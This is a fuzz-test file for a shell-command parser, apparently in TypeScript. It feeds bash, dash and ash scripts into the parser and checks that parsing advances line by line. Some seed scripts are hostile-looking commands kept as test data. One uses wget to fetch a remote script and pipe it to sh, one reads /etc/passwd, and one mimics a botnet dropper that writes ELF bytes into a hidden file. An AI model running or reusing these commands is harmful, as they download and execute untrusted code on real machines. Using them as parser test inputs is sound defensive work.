// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are a shell's
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { parseNext } from "../../../src/shell/language/parser.ts";
import type { Dialect } from "../../../src/shell/language/syntax.ts";
import type { FuzzTarget } from "../fuzz-target.ts";

const DIALECTS = ["bash", "dash", "ash"] satisfies Dialect[];
const ALIASES = new Map([
  ["ll", "ls -l "],
  ["loop", "loop; ll"],
  ["if", "while"],
]);

/** First byte: dialect and whether there are aliases. Line by line to the end of the text or the first mistake. */
function run(input: Uint8Array): void {
  const control = input[0] ?? 0;
  const dialect = DIALECTS[control % DIALECTS.length] ?? "bash";
  const text = Buffer.from(input.subarray(1)).toString("latin1");
  const aliases = control & 0x80 ? { aliases: ALIASES } : {};
  for (let at = 0, line = 1; at <= text.length; ) {
    const parsing = parseNext(text, at, { dialect, line, ...aliases });
    if (parsing.kind === "done") return;
    if (parsing.kind === "problem") return assert.ok(parsing.problem.line >= 1);
    assert.ok(parsing.end > at, "stands still");
    assert.ok(parsing.end >= text.length || text[parsing.end - 1] === "\n", `goes on inside a line, at ${parsing.end}`);
    at = parsing.end;
    line = parsing.line;
  }
}

const SCRIPTS = [
  "cd /tmp || cd /var/run; wget http://192.0.2.1/x.sh -O - | sh & echo $?\n",
  'if [ -f a ]; then echo "$a ${b:-c} $(uname -a)"; elif ! x; then y; else z; fi\nfor i in 1 2 3; do echo $i; done\n',
  "while read -r a; do case $a in x|y*) echo 'q' ;; *) break ;; esac; done < /etc/passwd\n",
  "f() { local x=$((1+2*3)); return 1; }\ncat <<E\n$x `id`\nE\ncat <<-'Q'\n\ta\n\tQ\n",
  "a=(1 2 [5]=6); [[ $a == b* && -z ${a[@]} ]]; ((i++)); for ((i=0;i<3;i++)); do :; done; select x in a; do :; done\n",
  '{ echo a; } 2>&1 >/dev/null <(id) &>x >|y {fd}<z <<<w; (exit 3) &\n echo ${x//a/b} ${#y} ${!z} ${x:1:2} $\'\\x41\\101\' "a\\"b"\n',
  '/bin/busybox ECCHI; >/tmp/.f && cp /bin/echo .x; echo -ne "\\x7f\\x45" >> .x # end\n',
  "ll\nloop; ll x\necho a; ll\nif x; do y; done\necho b\n",
];

export const target: FuzzTarget = {
  name: "shell-parser",
  run,
  share: 0.5,
  words: ["$((", "))", "$(", "${", "<<E\n", "\nE\n", "[[", "]]", " do ", " done", "; then ", " fi", " esac", "`", "<("],
  seeds: SCRIPTS.flatMap((script, at) =>
    [at, at + 0x81].map((control) => Buffer.concat([Buffer.of(control), Buffer.from(script, "latin1")])),
  ),
};
